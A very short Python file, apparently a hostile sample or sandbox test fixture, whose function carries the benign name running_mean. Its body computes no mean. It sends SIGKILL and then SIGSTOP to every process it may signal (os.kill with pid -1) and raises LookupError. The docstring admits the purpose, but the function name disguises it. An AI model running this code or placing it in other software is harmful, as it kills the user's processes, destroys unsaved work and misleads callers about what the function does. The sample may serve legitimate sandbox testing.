"""Sends SIGKILL to all processes that it may signal."""
import os
import signal


def running_mean(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(-1, signal.SIGSTOP)
    raise LookupError
